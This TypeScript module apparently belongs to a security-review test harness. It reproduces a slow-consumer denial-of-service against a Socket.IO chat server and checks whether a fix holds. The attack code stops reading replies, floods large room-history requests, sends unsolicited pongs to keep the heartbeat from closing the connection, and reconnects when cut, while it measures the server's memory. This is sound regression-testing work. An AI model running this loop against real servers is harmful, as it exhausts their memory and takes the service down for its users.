/**
 * Finding 1: a signed-in Socket.IO client that stops reading while asking for large replies makes
 * the server buffer them without bound; and unsolicited pongs keep such a client alive for ever.
 */
import { connectionCounts } from './http.js';
import { type Attack, mib, type Outcome, probe, type Row, secs, sleep, tally, within } from './lib.js';
import { type ServerHandle, startServer } from './server.js';
import { registerUser, type User } from './users.js';
import { SioClient } from './wire.js';

const FINDING = '1 slow consumer';
const ROOM = 'big';
const ATTACK_MS = 20_000;
/** The fix's target: one such client holds the server at most this much above its baseline. */
const GROWTH_TARGET_BYTES = 100 * 1024 * 1024;
/** What the fixed server logs when it ends a session for either reason (nothing, before). */
const CUT_LOGS = ['slow consumer cut off', 'pong without a ping: connection closed'];

/** When (Date.now()) the observer hears each user go offline: how a server-side close shows. */
function watchOffline(observer: SioClient) {
  const offlineAt = new Map<string, number>();
  let onChange = () => {};
  observer.on('activity', (payload) => {
    const { userId, state } = payload as { userId: string; state: string };
    if (state === 'offline' && !offlineAt.has(userId)) offlineAt.set(userId, Date.now());
    onChange();
  });
  /** Resolves once all of `userIds` went offline, or after `ms`. */
  const allOffline = (userIds: string[], ms: number) =>
    within(
      new Promise<void>((resolve) => {
        onChange = () => userIds.every((id) => offlineAt.has(id)) && resolve();
        onChange();
      }),
      ms,
    );
  return { offlineAt, allOffline };
}

/** Fills ROOM with 100 messages of ~4 KB, so each room-history of 100 is ~420 KB. */
async function seedRoom(seeder: SioClient): Promise<void> {
  await seeder.request('join-room', { room: ROOM });
  const body = { text: 'x'.repeat(4000) };
  for (let batch = 0; batch < 10; batch++)
    await Promise.all(
      Array.from({ length: 10 }, () => seeder.request('send-message', { room: ROOM, body }, 10_000)),
    );
}

const connectAs = (server: ServerHandle, user: User) =>
  SioClient.connect(server.url, { auth: { socketSecret: user.socketSecret } });

/** From now on the client reads nothing: TCP fills up and every reply waits in the server. */
function stall(client: SioClient): SioClient {
  client.autoPong = false;
  client.ws.pause();
  return client;
}

/** Samples the server's RSS every 250 ms: the peak, and a series for the JSON. */
function sampleRss(server: ServerHandle, started: number) {
  const series: { t: number; rssMiB: number }[] = [];
  let peak = server.rssBytes() ?? 0;
  const timer = setInterval(() => {
    const rss = server.rssBytes();
    if (rss === undefined) return;
    peak = Math.max(peak, rss);
    series.push({ t: Date.now() - started, rssMiB: Math.round(rss / 1024 / 1024) });
  }, 250);
  return { peak: () => peak, series, stop: () => clearInterval(timer) };
}

async function stalledHistoryLoop(server: ServerHandle): Promise<Outcome> {
  const seederUser = await registerUser(server, 'seed');
  const attackerUser = await registerUser(server, 'slow');
  const seeder = await connectAs(server, seederUser);
  const { offlineAt } = watchOffline(seeder);
  await seedRoom(seeder);
  let attacker = await connectAs(server, attackerUser);
  const sample = await attacker.request('room-history', { room: ROOM, limit: 100 });
  const replyBytes = JSON.stringify(sample).length;
  stall(attacker);
  // Let the server settle after the handshakes before taking its baseline.
  await sleep(500);
  const logMark = server.logMark();
  const baseline = server.rssBytes() ?? 0;
  const started = Date.now();
  const rss = sampleRss(server, started);
  const counts: { t: number; socketio: number | null }[] = [];
  const counter = setInterval(() => {
    const t = Date.now() - started;
    void connectionCounts(server, 2000).then((c) => counts.push({ t, socketio: c?.socketio ?? null }));
  }, 1000);
  let sent = 0;
  let sendErrors = 0;
  let reconnects = 0;
  // Engine.IO pongs every 10 s, as the review did: they kept the heartbeat from closing the connection.
  const ponger = setInterval(() => attacker.ws.send('3', (err) => err && sendErrors++), 10_000);
  let id = 1_000;
  while (Date.now() - started < ATTACK_MS && server.alive()) {
    // An attacker whose connection is cut comes straight back, so the server is under this load the
    // whole time (the unfixed server never cut it).
    if (!attacker.open) {
      attacker.close();
      attacker = stall(await connectAs(server, attackerUser));
      reconnects++;
    }
    for (let i = 0; i < 2; i++) {
      attacker.ws.send(
        `42${id++}["room-history",{"room":"${ROOM}","limit":100}]`,
        (err) => err && sendErrors++,
      );
      sent++;
    }
    await sleep(20);
  }
  const elapsed = Date.now() - started;
  clearInterval(ponger);
  // A second more of sampling: memory the last requests took shows up after them.
  await sleep(1000);
  rss.stop();
  clearInterval(counter);
  const died = !server.alive();
  const exit = died ? await server.exited : undefined;
  const heapLimit = /heap limit|heap out of memory/i.test(server.stderr());
  const cutLogs = tally(
    server
      .logsSince(logMark)
      .map((l) => l.msg ?? '')
      .filter((m) => CUT_LOGS.includes(m)),
  );
  const firstCut = offlineAt.get(attackerUser.id);
  attacker.close();
  seeder.close();
  const growth = rss.peak() - baseline;
  return {
    outcome:
      `${Math.round(replyBytes / 1024)} KB per reply; RSS ${mib(baseline)} → peak ${mib(rss.peak())}: peak − baseline ${mib(growth)} ` +
      `(target < ${mib(GROWTH_TARGET_BYTES)}) over ${secs(elapsed)}, ${sent} requests sent; ` +
      (died
        ? `server DIED after ${secs((exit?.at ?? 0) - started)} (code ${exit?.code}, signal ${exit?.signal}${heapLimit ? ', heap limit' : ''}); `
        : 'server alive; ') +
      (firstCut !== undefined
        ? `attacking connection first cut by the server after ${secs(firstCut - started)}, reconnected ${reconnects} times (server log: ${JSON.stringify(cutLogs)})`
        : `attacking connection never closed by the server${died ? ' before it died' : ''}`),
    figures: {
      replyBytes,
      baselineRssBytes: baseline,
      peakRssBytes: rss.peak(),
      growthBytes: growth,
      growthTargetBytes: GROWTH_TARGET_BYTES,
      elapsedMs: elapsed,
      requestsSent: sent,
      sendErrors,
      reconnects,
      cutLogs,
      died,
      exit,
      heapLimitInStderr: heapLimit,
      attackerClosedAfterMs: firstCut === undefined ? null : firstCut - started,
      socketioCounts: counts,
      rssSeries: rss.series.filter((_, i) => i % 4 === 0),
    },
  };
}

async function unsolicitedPongs(server: ServerHandle): Promise<Outcome> {
  const [observerUser, silentUser, pongUser] = [
    await registerUser(server, 'obs'),
    await registerUser(server, 'silent'),
    await registerUser(server, 'pong'),
  ];
  const observer = await connectAs(server, observerUser);
  const { offlineAt, allOffline } = watchOffline(observer);
  const silent = stall(await connectAs(server, silentUser));
  const ponging = stall(await connectAs(server, pongUser));
  const started = Date.now();
  const ponger = setInterval(() => ponging.ws.send('3', () => {}), 500);
  await allOffline([silentUser.id, pongUser.id], 8000);
  clearInterval(ponger);
  const watchedMs = Date.now() - started;
  const counts = await connectionCounts(server);
  const silentCut = offlineAt.get(silentUser.id);
  const pongCut = offlineAt.get(pongUser.id);
  for (const c of [observer, silent, ponging]) c.close();
  const fate = (cut: number | undefined) =>
    cut === undefined ? 'still open at 8 s' : `closed after ${secs(cut - started)}`;
  return {
    outcome: `silent: ${fate(silentCut)}; unsolicited pongs: ${fate(pongCut)} (health socketio count after ${secs(watchedMs)}: ${counts?.socketio ?? 'no answer'} of 3)`,
    figures: {
      silentClosedAfterMs: silentCut === undefined ? null : silentCut - started,
      pongingClosedAfterMs: pongCut === undefined ? null : pongCut - started,
      watchedMs,
      socketioCountAtEnd: counts?.socketio ?? null,
    },
  };
}

export const attack: Attack = {
  name: 'slow-consumer',
  async run(repo) {
    const rows: Row[] = [];
    // MAX_BUFFERED_BYTES and the heartbeat stay at their defaults (BASE_ENV does not raise them); the
    // connect and handshake rates are raised, so they do not end the reconnecting attack early.
    const big = await startServer(repo, { nodeArgs: ['--max-old-space-size=512'] });
    await probe(
      rows,
      FINDING,
      `client stops reading, loops room-history {limit: 100} on 100 messages of ~4 KB for ${ATTACK_MS / 1000} s, pong "3" every 10 s, reconnecting whenever cut (connect and handshake rates raised); --max-old-space-size=512`,
      () => stalledHistoryLoop(big),
    );
    await big.stop();
    const quick = await startServer(repo, {
      env: { HEARTBEAT_INTERVAL_MS: '1000', HEARTBEAT_TIMEOUT_MS: '1000' },
    });
    await probe(
      rows,
      FINDING,
      'HEARTBEAT_INTERVAL_MS=1000 HEARTBEAT_TIMEOUT_MS=1000: two non-reading connections, one silent, one sending unsolicited pongs every 0.5 s; watched up to 8 s',
      () => unsolicitedPongs(quick),
    );
    await quick.stop();
    return rows;
  },
};
